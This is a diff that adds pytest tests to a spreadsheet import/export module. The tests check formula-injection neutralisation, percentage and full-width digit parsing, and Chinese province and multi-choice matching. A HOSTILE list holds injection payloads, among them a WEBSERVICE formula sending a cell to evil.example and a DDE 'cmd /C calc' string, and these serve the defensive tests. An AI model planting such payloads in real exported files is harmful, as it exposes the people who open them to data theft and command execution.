@@ -411,3 +411,109 @@ def test_it_writes_a_valid_xlsx_to_a_file_object_even_without_sheets():
     out = io.BytesIO()
     xlsx_write(out, [])
     assert openpyxl.load_workbook(io.BytesIO(out.getvalue())).sheetnames == ["Sheet"]
+
+
+HOSTILE = [
+    '\x01=WEBSERVICE("http://evil.example/?"&A2)',
+    "\x00\x1f+cmd|' /C calc'!A0",
+    "\x0b-2+3",
+    "\x02@SUM(1+1)",
+    '=HYPERLINK("http://evil.example")',
+]
+
+
+def test_it_writes_no_formula_cell_whatever_control_characters_come_first(tmp_path):
+    path = tmp_path / "out.xlsx"
+    xlsx_write(path, [("Results", [["firm", "note"], *([text, text] for text in HOSTILE)])])
+    with zipfile.ZipFile(path) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    values = [row for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
+    assert all(str(cell).startswith("'") for row in values for cell in row)
+    assert values[0][0] == "'" + '=WEBSERVICE("http://evil.example/?"&A2)'
+
+
+def test_it_neutralises_every_manifest_column_of_a_bulk_zip(tmp_path):
+    from assessment.exports import write_bundle
+
+    pdf = tmp_path / "r.pdf"
+    pdf.write_bytes(b"%PDF-1.7\n")
+    items = [
+        {"firm": text, "result": {"overall": 50}, "status": text, "error": text, "path": pdf, "filename": f"{text}.pdf"}
+        for text in ("=1+1", "+1", "-1", "@A1", "\x01=1+1")
+    ]
+    target = io.BytesIO()
+    write_bundle(target, items, [])
+    with zipfile.ZipFile(target) as bundle:
+        rows = list(csv.reader(io.StringIO(bundle.read("manifest.csv").decode("utf-8-sig"))))
+    for row in rows[1:]:
+        for cell in [row[0], *row[2:]]:
+            assert not cell.startswith(tables.FORMULA_START), row
+
+
+def test_it_reads_a_percent_formatted_cell_as_the_percentage_the_user_typed(tmp_path):
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["export_share", "employees"])
+    sheet.append([0.3, 1200])
+    sheet["A2"].number_format = "0%"
+    sheet.append([0.125, 5])
+    sheet["A3"].number_format = "0.0%"
+    path = tmp_path / "p.xlsx"
+    book.save(path)
+    rows = read_table(path.read_bytes(), "p.xlsx", max_bytes=10**7, max_rows=100)
+    assert rows[1:] == [["30%", "1200"], ["12.5%", "5"]]
+
+
+@pytest.mark.parametrize(
+    ("cell", "value"), [("30%", 30), ("30 %", 30), ("３０％", 30), ("12.5%", 12.5), ("30", 30), ("３０", 30)]
+)
+def test_it_imports_percentages_and_full_width_digits_as_typed(shipped, cell, value):
+    from assessment import importing
+
+    q = shipped.questions["export_share"]
+    assert importing.convert(q, cell, importing._Matcher(shipped)) == value
+
+
+def test_it_refuses_a_percent_sign_where_the_unit_is_not_percent(shipped):
+    from assessment import importing
+
+    with pytest.raises(ValueError):
+        importing.convert(shipped.questions["employees"], "30%", importing._Matcher(shipped))
+    assert importing.convert(shipped.questions["employees"], "1,200", importing._Matcher(shipped)) == 1200
+
+
+@pytest.mark.parametrize(
+    ("cell", "key"),
+    [
+        ("广东省", "guangdong"),
+        ("上海市", "shanghai"),
+        ("广西壮族自治区", "guangxi"),
+        ("内蒙古自治区", "inner_mongolia"),
+        ("新疆维吾尔自治区", "xinjiang"),
+        ("宁夏回族自治区", "ningxia"),
+        ("广东", "guangdong"),
+        ("Guangdong", "guangdong"),
+    ],
+)
+def test_it_reads_provinces_written_with_their_official_suffix(shipped, cell, key):
+    from assessment import importing
+
+    assert importing.convert(shipped.questions["province"], cell, importing._Matcher(shipped)) == key
+
+
+def test_it_reads_multiple_choices_whose_option_texts_hold_separators(shipped):
+    from assessment import importing
+
+    q = next(
+        q for q in shipped.questions.values() if q.type == "multi" and any("、" in o.text["zh-hans"] for o in q.options)
+    )
+    with_sep = [o for o in q.options if "、" in o.text["zh-hans"] and not o.exclusive]
+    other = next(o for o in q.options if o not in with_sep and not o.exclusive and not o.na)
+    matcher = importing._Matcher(shipped)
+    for sep in ("、", "，", ",", "；", ";", "\n"):
+        cell = f"{with_sep[0].text['zh-hans']}{sep}{other.text['zh-hans']}"
+        assert importing.convert(q, cell, matcher) == [with_sep[0].key, other.key], sep
+    assert importing.convert(q, f"{other.key}; {with_sep[0].key}", matcher) == [other.key, with_sep[0].key]
+    with pytest.raises(ValueError):
+        importing.convert(q, f"{other.text['zh-hans']}、不存在的选项", matcher)
